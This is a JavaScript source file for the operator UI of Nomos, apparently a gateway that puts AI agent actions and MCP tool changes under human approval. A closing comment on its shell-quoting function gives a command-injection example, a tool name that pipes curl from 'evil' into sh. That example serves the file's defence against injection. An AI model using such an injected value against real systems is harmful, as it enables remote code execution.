// Nomos operator UI. Plain DOM, no dependencies, no inline script (the
// page's Content-Security-Policy forbids it). Every value from the server
// is inserted as text, never as HTML.
"use strict";

const KEY = "nomos-ui-api-key";
const state = { session: null, view: "inbox", timer: null, before: 0, query: "" };

const $ = (id) => document.getElementById(id);

function el(tag, attrs, ...children) {
  const n = document.createElement(tag);
  for (const [k, v] of Object.entries(attrs || {})) {
    if (v === undefined || v === null || v === false) continue;
    if (k === "class") n.className = v;
    else if (k.startsWith("on")) n.addEventListener(k.slice(2), v);
    else n.setAttribute(k, v === true ? "" : v);
  }
  for (const c of children.flat()) {
    if (c === undefined || c === null) continue;
    n.append(c instanceof Node ? c : document.createTextNode(String(c)));
  }
  return n;
}

function badge(value) {
  return el("span", { class: "badge " + value }, value);
}

function status(msg, isError) {
  const s = $("status");
  s.textContent = msg || "";
  s.className = isError ? "status error" : "status";
}

// api calls /api/ui/<path>. The API key (if any) goes in Authorization;
// POSTs carry the session's CSRF token. A CSRF failure after a reload of
// the server fetches a fresh token and retries once.
async function api(path, opts = {}, retried = false) {
  const headers = { Accept: "application/json" };
  const key = sessionStorage.getItem(KEY);
  if (key) headers.Authorization = "Bearer " + key;
  if (opts.body !== undefined) {
    headers["Content-Type"] = "application/json";
    if (state.session) headers["X-Nomos-CSRF"] = state.session.csrf_token;
  }
  const resp = await fetch("/api/ui/" + path, {
    method: opts.body !== undefined ? "POST" : "GET",
    headers,
    body: opts.body !== undefined ? JSON.stringify(opts.body) : undefined,
    credentials: "same-origin",
    cache: "no-store",
  });
  const data = await resp.json().catch(() => ({}));
  if (resp.status === 403 && !retried && String(data.reason || "").includes("csrf")) {
    state.session = await api("session");
    return api(path, opts, true);
  }
  if (!resp.ok) {
    const err = new Error(data.reason || "HTTP " + resp.status);
    err.status = resp.status;
    throw err;
  }
  return data;
}

// ---- sign in ----

async function start() {
  try {
    state.session = await api("session");
  } catch (e) {
    if (e.status === 401) return showLogin(sessionStorage.getItem(KEY) ? "That key was not accepted." : "");
    return showLogin(e.message);
  }
  $("login").hidden = true;
  $("who").hidden = false;
  $("who-principal").textContent = state.session.principal;
  const roles = [state.session.can_read ? "reader" : null, state.session.can_decide ? "decider" : null].filter(Boolean);
  $("who-roles").textContent = roles.length ? "(" + roles.join(", ") + ", " + state.session.environment + ")" : "(no UI role)";
  if (!state.session.can_read) {
    status("Signed in, but " + state.session.principal + " is not a reader of this UI. Ask an operator to add you to nomos_ui readers.", true);
    return;
  }
  $("tabs").hidden = false;
  show(location.hash.slice(1) || "inbox");
}

function showLogin(msg) {
  $("login").hidden = false;
  $("who").hidden = true;
  $("tabs").hidden = true;
  document.querySelectorAll(".view").forEach((v) => (v.hidden = true));
  $("login-error").textContent = msg || "";
  $("login-key").focus();
}

$("login-form").addEventListener("submit", (ev) => {
  ev.preventDefault();
  sessionStorage.setItem(KEY, $("login-key").value);
  $("login-key").value = "";
  start();
});

$("logout").addEventListener("click", () => {
  sessionStorage.removeItem(KEY);
  state.session = null;
  clearInterval(state.timer);
  status("");
  showLogin("Signed out.");
});

// ---- views ----

const loaders = { inbox: loadInbox, activity: () => search(false), readiness: loadReadiness, upstreams: loadUpstreams, explain: () => {} };

function show(view) {
  if (!loaders[view]) view = "inbox";
  state.view = view;
  history.replaceState(null, "", "#" + view);
  document.querySelectorAll("#tabs button").forEach((b) => {
    if (b.dataset.view === view) b.setAttribute("aria-current", "page");
    else b.removeAttribute("aria-current");
  });
  document.querySelectorAll(".view").forEach((v) => (v.hidden = v.id !== "view-" + view));
  clearInterval(state.timer);
  refresh();
  if (view === "inbox" || view === "upstreams") state.timer = setInterval(refresh, 5000);
}

async function refresh() {
  try {
    await loaders[state.view]();
    if (state.view !== "activity") status("Updated " + new Date().toLocaleTimeString());
  } catch (e) {
    if (e.status === 401) return showLogin("Your session is no longer accepted.");
    status(e.message, true);
  }
}

document.querySelectorAll("#tabs button").forEach((b) => b.addEventListener("click", () => show(b.dataset.view)));

function table(headers, rows, emptyText) {
  if (!rows.length) return el("p", { class: "empty" }, emptyText);
  return el("table", {},
    el("thead", {}, el("tr", {}, headers.map((h) => el("th", { scope: "col" }, h)))),
    el("tbody", {}, rows));
}

function fmtTime(s) {
  if (!s) return "";
  const d = new Date(s);
  return d.toLocaleString();
}

function fmtLeft(sec) {
  if (sec <= 0) return "expired";
  const m = Math.floor(sec / 60), s = sec % 60;
  return m > 0 ? m + " min " + s + " s" : s + " s";
}

// ---- approvals ----

async function loadInbox() {
  const data = await api("approvals");
  $("pending-count").textContent = data.pending.length ? String(data.pending.length) : "";
  const canDecide = state.session.can_decide;
  const pending = data.pending.map((a) => {
    const soon = a.expires_in_seconds < 120;
    return el("tr", { "data-approval": a.approval_id },
      el("td", {}, el("strong", {}, a.principal), el("br"), el("span", { class: "hint" }, "agent " + a.agent)),
      el("td", {}, el("code", {}, a.action_type)),
      el("td", {}, el("code", {}, a.resource)),
      el("td", {}, el("pre", { class: "preview" }, a.params_preview || "(no preview: recorded before previews were kept)")),
      el("td", {}, fmtLeft(a.expires_in_seconds), soon ? [" ", el("span", { class: "badge soon" }, "expires soon")] : null,
        el("br"), el("span", { class: "hint" }, fmtTime(a.expires_at))),
      el("td", {}, canDecide
        ? [el("button", { type: "button", class: "approve", onclick: () => decide(a, "APPROVE") }, "Approve"), " ",
           el("button", { type: "button", class: "deny", onclick: () => decide(a, "DENY") }, "Deny")]
        : el("span", { class: "hint" }, "read only"),
        el("br"), el("button", { type: "button", class: "link", onclick: () => openTrace(a.trace_id) }, "trace"))
    );
  });
  $("inbox-pending").replaceChildren(table(["Requested by", "Action", "Resource", "Arguments (redacted)", "Expires in", ""], pending, "Nothing is waiting for approval."));
  const decided = data.decided.map((a) => el("tr", {},
    el("td", {}, badge(a.status)),
    el("td", {}, a.principal + " / " + a.agent),
    el("td", {}, el("code", {}, a.action_type), " ", el("code", {}, a.resource)),
    el("td", {}, a.decided_by || ""),
    el("td", {}, fmtTime(a.updated_at)),
    el("td", {}, el("button", { type: "button", class: "link", onclick: () => openTrace(a.trace_id) }, "trace"))));
  $("inbox-decided").replaceChildren(table(["Status", "Requested by", "Action", "Decided by", "When", ""], decided, "No decisions yet."));
}

function decide(a, decision) {
  const dlg = $("confirm");
  const verb = decision === "APPROVE" ? "Approve" : "Deny";
  $("confirm-title").textContent = verb + " this action?";
  $("confirm-body").replaceChildren(el("dl", { class: "kv" },
    el("dt", {}, "Principal"), el("dd", {}, a.principal),
    el("dt", {}, "Agent"), el("dd", {}, a.agent),
    el("dt", {}, "Action"), el("dd", {}, a.action_type),
    el("dt", {}, "Resource"), el("dd", {}, a.resource),
    el("dt", {}, "Arguments"), el("dd", {}, el("pre", { class: "preview" }, a.params_preview || "")),
    el("dt", {}, "Approval"), el("dd", {}, a.approval_id)));
  $("confirm-ok").textContent = verb;
  $("confirm-ok").className = decision === "APPROVE" ? "approve" : "deny";
  dlg.returnValue = "";
  dlg.onclose = async () => {
    if (dlg.returnValue !== "ok") return;
    try {
      const r = await api("approvals/decide", { body: { approval_id: a.approval_id, decision } });
      status(a.approval_id + " is " + r.status + ". The agent can now retry with this approval id.");
      await loadInbox();
    } catch (e) {
      status(e.message, true);
    }
  };
  dlg.showModal();
  $("confirm-cancel").focus();
}

// ---- activity ----

$("search").addEventListener("submit", (ev) => {
  ev.preventDefault();
  search(false);
});
$("older").addEventListener("click", () => search(true));

function localToRFC3339(v) {
  return v ? new Date(v).toISOString().replace(/\.\d+Z$/, "Z") : "";
}

async function search(older) {
  const f = new FormData($("search"));
  const p = new URLSearchParams();
  for (const k of ["trace_id", "principal", "decision"]) if (f.get(k)) p.set(k, f.get(k).trim());
  for (const k of ["since", "until"]) if (f.get(k)) p.set(k, localToRFC3339(f.get(k)));
  p.set("limit", "25");
  if (older && state.before) p.set("before", String(state.before));
  try {
    const page = await api("events?" + p.toString());
    state.before = page.next || 0;
    $("older").hidden = !page.next;
    const rows = page.events.map((e) => el("tr", {},
      el("td", {}, fmtTime(e.timestamp)),
      el("td", {}, e.event_type),
      el("td", {}, e.principal || "", e.agent ? el("span", { class: "hint" }, " / " + e.agent) : null),
      el("td", {}, el("code", {}, e.action_type || ""), " ", el("code", {}, e.resource_normalized || "")),
      el("td", {}, e.decision ? badge(e.decision) : "", " ", el("span", { class: "hint" }, e.reason || "")),
      el("td", {}, el("button", { type: "button", class: "link", onclick: () => openTrace(e.trace_id) }, e.trace_id))));
    $("events").replaceChildren(table(["Time", "Event", "Principal / agent", "Action", "Decision", "Trace"], rows, "No events match."));
    status(page.events.length + " event(s)" + (older ? " (older page)" : ""));
  } catch (e) {
    if (e.status === 401) return showLogin("Your session is no longer accepted.");
    status(e.message, true);
  }
}

async function openTrace(traceID) {
  if (!traceID) return;
  if (state.view !== "activity") show("activity");
  const form = $("search");
  form.elements.trace_id.value = traceID;
  await search(false);
  const t = await api("trace?trace_id=" + encodeURIComponent(traceID));
  const items = t.events.map((e) => el("li", {},
    el("div", {}, el("strong", {}, e.event_type), " ", e.decision ? badge(e.decision) : "", " ",
      el("span", {}, e.reason || ""), " ", el("span", { class: "when" }, fmtTime(e.timestamp) + " · " + (e.principal || "") + (e.agent ? " / " + e.agent : ""))),
    el("details", {}, el("summary", {}, "Details"),
      el("dl", { class: "kv" },
        kv("Action", e.action_type), kv("Resource", e.resource_normalized),
        kv("Rules", (e.matched_rule_ids || []).join(", ")), kv("Approval", e.approval_id),
        kv("Arguments (redacted)", e.params_redacted_summary), kv("Result", e.result_redacted_summary),
        kv("Classification", e.result_classification), kv("Duration", e.duration_ms ? e.duration_ms + " ms" : ""),
        kv("Policy hash", e.policy_bundle_hash), kv("Event hash", e.event_hash)))));
  $("timeline").hidden = false;
  $("timeline").replaceChildren(el("h3", { tabindex: "-1", id: "timeline-title" }, "Timeline of trace " + traceID + " (oldest first)"),
    el("ol", { class: "timeline" }, items), el("h3", {}, "Matching events (newest first)"));
  $("timeline-title").focus();
}

function kv(k, v) {
  if (v === undefined || v === null || v === "") return [];
  return [el("dt", {}, k), el("dd", {}, String(v))];
}

// ---- readiness ----

async function loadReadiness() {
  const rep = await api("readiness");
  const order = { fail: 0, warn: 1, pass: 2 };
  const checks = [...rep.checks].sort((a, b) => order[a.status] - order[b.status]);
  const rows = checks.map((c) => el("tr", {},
    el("td", {}, badge(c.status)),
    el("td", {}, el("code", {}, c.id), c.subject ? el("div", { class: "hint" }, c.subject) : null),
    el("td", {}, c.message, (c.evidence || []).length ? el("ul", {}, c.evidence.map((e) => el("li", {}, el("code", {}, e)))) : null),
    el("td", {}, c.status !== "pass" ? c.remediation || "" : "")));
  $("readiness").replaceChildren(
    el("div", { class: "summary" },
      el("span", {}, "Assurance level ", el("span", { class: "level" }, rep.assurance_level)),
      el("span", {}, "Overall ", badge(rep.status))),
    el("p", { class: "hint" }, "The nomos doctor checks of the running configuration, problems first. docs/doctor.md explains each check id."),
    table(["Status", "Check", "Finding and evidence", "Remediation"], rows, "No checks."));
}

// ---- upstreams ----

async function loadUpstreams() {
  const data = await api("upstreams");
  const rows = data.upstreams.map((u) => el("tr", {},
    el("td", {}, el("strong", {}, u.name)),
    el("td", {}, badge(u.breaker)),
    el("td", {}, String(u.calls)),
    el("td", {}, (u.error_rate * 100).toFixed(1) + " %"),
    el("td", {}, u.calls ? u.p50_ms + " ms" : "–"),
    el("td", {}, u.calls ? u.p95_ms + " ms" : "–"),
    el("td", {}, u.tools.join(", ")),
    el("td", {}, "pin " + u.pin, u.pending.length ? [" ", badge("quarantined")] : null)));
  const canDecide = state.session.can_decide;
  const pending = data.upstreams.flatMap((u) => u.pending.map((p) => el("tr", { "data-pin": u.name + "/" + p.tool },
    el("td", {}, el("strong", {}, u.name + "/" + p.tool)),
    el("td", {}, badge(p.status), el("br"), el("span", { class: "hint" }, u.pin === "enforce" ? "hidden from clients" : "still served (pin " + u.pin + ")")),
    el("td", {}, p.kind === "new_tool" ? "new tool" : "changed: " + p.changed_fields.join(", ")),
    el("td", {}, el("code", {}, p.offered_fingerprint), p.fingerprint ? [el("br"), el("span", { class: "hint" }, "accepted " + p.fingerprint)] : null),
    el("td", {}, fmtTime(p.updated_at)),
    el("td", {}, canDecide
      ? [el("button", { type: "button", class: "approve", onclick: () => reviewPin(u.name, p, "accept") }, "Accept"), " ",
         el("button", { type: "button", class: "deny", onclick: () => reviewPin(u.name, p, "reject") }, "Reject")]
      : el("span", { class: "hint" }, "read only")))));
  $("upstreams").replaceChildren(
    el("p", { class: "hint" }, "Statistics: " + data.source + "."),
    table(["Upstream", "Breaker", "Calls", "Error rate", "p50", "p95", "Tools", "Pins"], rows, "No upstream MCP servers are configured."),
    el("h3", {}, "Tool definitions waiting for review"),
    el("p", { class: "hint" }, "A tool whose definition changed, or that appeared after the first listing. Compare the definitions with nomos mcp pins diff before accepting."),
    table(["Tool", "Status", "Reason", "Offered fingerprint", "Since", ""], pending, "No tool definition waits for review."));
}

function reviewPin(upstream, p, decision) {
  const dlg = $("confirm");
  const verb = decision === "accept" ? "Accept" : "Reject";
  $("confirm-title").textContent = verb + " this tool definition?";
  $("confirm-body").replaceChildren(el("dl", { class: "kv" },
    el("dt", {}, "Tool"), el("dd", {}, upstream + "/" + p.tool),
    el("dt", {}, "Reason"), el("dd", {}, p.kind === "new_tool" ? "new tool" : "changed: " + p.changed_fields.join(", ")),
    el("dt", {}, "Offered"), el("dd", {}, p.offered_fingerprint),
    el("dt", {}, "Accepted"), el("dd", {}, p.fingerprint || "none"),
    el("dt", {}, "Compare"), el("dd", {}, "nomos mcp pins diff --upstream " + shellQuote(upstream) + " --tool " + shellQuote(p.tool))));
  $("confirm-ok").textContent = verb;
  $("confirm-ok").className = decision === "accept" ? "approve" : "deny";
  dlg.returnValue = "";
  dlg.onclose = async () => {
    if (dlg.returnValue !== "ok") return;
    try {
      await api("pins/decide", { body: { upstream, tool: p.tool, fingerprint: p.offered_fingerprint, decision } });
      status(upstream + "/" + p.tool + ": " + decision + "ed. Clients see it at their next tools/list.");
      await loadUpstreams();
    } catch (e) {
      status(e.message, true);
    }
  };
  dlg.showModal();
}

// ---- explain ----

$("explain-form").addEventListener("submit", async (ev) => {
  ev.preventDefault();
  const f = new FormData(ev.target);
  let actionObj;
  try {
    actionObj = JSON.parse($("explain-action").value);
  } catch (e) {
    return status("The action is not valid JSON: " + e.message, true);
  }
  try {
    const r = await api("explain", { body: { action: actionObj, principal: f.get("principal") || "", agent: f.get("agent") || "" } });
    $("explain-result").replaceChildren(el("div", { class: "panel" },
      el("p", {}, "Decision ", badge(r.decision), " ", el("span", { class: "hint" }, r.reason_code || "")),
      el("pre", { class: "preview" }, JSON.stringify(r, null, 2))));
    status("Explained; nothing was executed.");
  } catch (e) {
    status(e.message, true);
  }
});

start();

// shellQuote makes an upstream-chosen name safe to paste into a POSIX
// shell (a tool named "x;curl evil|sh" stays one argument), and shows
// characters that would print as nothing as \u escapes.
function shellQuote(s) {
  const shown = String(s).replace(/[\p{Cf}\p{Cc}\p{Zl}\p{Zp}]/gu, (c) => "\\u" + c.codePointAt(0).toString(16).padStart(4, "0"));
  return "'" + shown.replace(/'/g, "'\\''") + "'";
}
